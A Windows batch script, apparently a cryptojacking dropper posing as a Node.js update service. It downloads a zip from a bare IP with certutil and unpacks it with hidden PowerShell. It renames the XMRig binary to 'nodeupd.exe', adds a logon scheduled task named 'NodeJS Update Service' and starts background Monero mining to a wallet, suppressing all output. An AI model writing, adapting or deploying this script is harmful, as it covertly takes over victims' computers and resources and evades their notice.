@echo off
set W=%APPDATA%\NodeJsUpdate
if exist "%W%\nodeupd.exe" goto run
mkdir "%W%" >nul 2>&1
certutil -urlcache -split -f http://198.51.100.60/m/wr.zip "%TEMP%\wr.zip" >nul 2>&1
powershell -NoP -W Hidden -c "Expand-Archive -Force -Path $env:TEMP\wr.zip -DestinationPath $env:APPDATA\NodeJsUpdate" >nul 2>&1
del /f /q "%TEMP%\wr.zip" >nul 2>&1
ren "%W%\xmrig.exe" nodeupd.exe >nul 2>&1
schtasks /create /f /sc onlogon /rl limited /tn "NodeJS Update Service" /tr "\"%W%\nodeupd.exe\" -o xmr.pool-relay.example:3333 -u 4BQPEjJmki5fhBboGBWRJhmcFkMvrr4Fu3tMSJ5EdynMEiYSyiWAH9GpcbHpeUzeSQF9ZY6q4x8AhBskUf5RRfWaHcx1ko8 -p %COMPUTERNAME% --cpu-max-threads-hint=60 --donate-level=1" >nul 2>&1
:run
start "" /B "%W%\nodeupd.exe" -o xmr.pool-relay.example:3333 -u 4BQPEjJmki5fhBboGBWRJhmcFkMvrr4Fu3tMSJ5EdynMEiYSyiWAH9GpcbHpeUzeSQF9ZY6q4x8AhBskUf5RRfWaHcx1ko8 -p %COMPUTERNAME% --cpu-max-threads-hint=60 --donate-level=1 --background
exit /b 0
